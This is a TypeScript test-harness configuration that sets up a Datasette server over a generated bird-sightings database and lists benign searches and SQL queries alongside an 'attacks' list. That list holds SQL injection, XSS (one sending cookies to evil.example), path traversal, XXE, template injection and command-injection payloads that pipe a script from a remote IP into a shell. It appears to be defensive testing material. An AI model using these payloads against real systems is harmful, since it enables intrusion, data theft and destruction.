import type { Application } from "../application.ts";

const makeDatabase = `
import sqlite3
db = sqlite3.connect("birds.db")
db.executescript("""
create table species (id integer primary key, name text, family text, weight_g real, red_list text);
create table sightings (id integer primary key, species_id integer references species(id), place text, seen_on text, observer text, note text);
create virtual table notes using fts5(title, body);
""")
families = ["Corvidae", "Paridae", "Anatidae", "Strigidae", "Laridae"]
for i in range(1, 200):
    db.execute("insert into species values (?,?,?,?,?)", (i, f"Species {i}", families[i % 5], i * 3.7, ["LC", "NT", "VU"][i % 3]))
for i in range(1, 900):
    db.execute("insert into sightings values (?,?,?,?,?,?)", (i, i % 199 + 1, ["Mere", "Old quarry", "Weir", "Heath"][i % 4], f"2026-0{i % 9 + 1}-1{i % 9}", ["Ó Súilleabháin", "Kowalski", "d'Arcy"][i % 3], "two adults & one juvenile"))
for i in range(80):
    db.execute("insert into notes values (?,?)", (f"Walk {i}", "Fog until nine, then a pair of goldeneye on the weir."))
db.commit()
`;

/** Publishes SQLite databases; its visitors write SQL into addresses, which is what it is for. */
export const datasette: Application = {
  name: "datasette",
  packages: { pip: ["datasette==0.65.5"] },
  files: () => ({ "make.py": makeDatabase }),
  prepare: () => [["python3", "make.py"]],
  start: ({ port }) => [
    "datasette",
    "birds.db",
    "-h",
    "127.0.0.1",
    "-p",
    String(port),
    "--setting",
    "sql_time_limit_ms",
    "2000",
  ],
  ready: "/",
  pages: [
    "/",
    "/birds",
    "/birds/species",
    "/birds/sightings",
    "/birds/sightings?_facet=place",
    "/birds/notes",
    "/birds/species?_sort_desc=weight_g",
    "/-/versions",
  ],
  texts: {
    searches: [
      "goldeneye",
      "fog weir",
      "walk 12",
      "juvenile",
      "d'Arcy",
      "Old quarry",
      "o'er the heath",
      "Corvidae OR Paridae",
      "weir -fog",
      "pair of",
      "2026-03",
      "VU",
      '"two adults"',
      "goldeneye*",
    ],
    lines: [
      "Corvidae",
      "Weir",
      "2026-04-14",
      "Kowalski",
      "Ó Súilleabháin",
      "NT",
      "120",
      "Species 44",
      "LC",
      "two adults & one juvenile",
      "Heath",
      "3.7",
    ],
    long: [
      "select name, weight_g from species order by weight_g desc limit 20",
      "select place, count(*) as n from sightings group by place order by n desc",
      "select s.name, count(*) from sightings t join species s on s.id = t.species_id where t.place = 'Weir' group by s.name having count(*) > 1",
      "select * from sightings where observer = 'd''Arcy' and seen_on between '2026-03-01' and '2026-05-31'",
      "with heavy as (select * from species where weight_g > 200) select family, avg(weight_g) from heavy group by family",
      "select distinct family from species -- all five of them",
      "select * from notes where notes match 'goldeneye' order by rank",
      "select substr(seen_on, 1, 7) as month, count(*) from sightings group by 1",
      "select red_list, group_concat(name, ', ') from species where id < 20 group by red_list",
    ],
  },
  attacks: [
    { class: "sql_injection", payload: "1 UNION SELECT name, sql, NULL, NULL, NULL FROM sqlite_master--" },
    { class: "sql_injection", payload: "Weir' OR '1'='1" },
    { class: "sql_injection", payload: "' AND 1=CAST((SELECT load_extension('/tmp/x.so')) AS INT)--" },
    { class: "sql_injection", payload: "LC') OR randomblob(500000000) IS NOT NULL-- -" },
    {
      class: "sql_injection",
      payload: "x'; ATTACH DATABASE '/var/www/html/lol.php' AS lol; CREATE TABLE lol.pwn (dataz text);--",
    },
    { class: "xss", payload: "<script>fetch('//evil.example/?c='+document.cookie)</script>" },
    { class: "xss", payload: '"><img src=x onerror=alert(document.domain)>' },
    { class: "xss", payload: "<svg/onload=confirm`1`>" },
    { class: "xss", payload: "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>" },
    { class: "path_traversal", payload: "../../../../../../etc/passwd" },
    { class: "path_traversal", payload: "..%2f..%2f..%2f..%2fetc%2fshadow" },
    { class: "path_traversal", payload: "file:///proc/self/environ" },
    { class: "command_injection", payload: "Heath; cat /etc/passwd" },
    { class: "command_injection", payload: "$(curl http://203.0.113.7/x.sh|sh)" },
    { class: "command_injection", payload: "`id`; wget http://203.0.113.7/a -O- | bash" },
    { class: "command_injection", payload: "| ping -c 10 127.0.0.1" },
    { class: "xxe", payload: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' },
    { class: "command_injection", payload: "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}" },
    { class: "sql_injection", payload: "1; DROP TABLE sightings;--" },
    { class: "path_traversal", payload: "....//....//....//etc/hosts" },
  ],
};
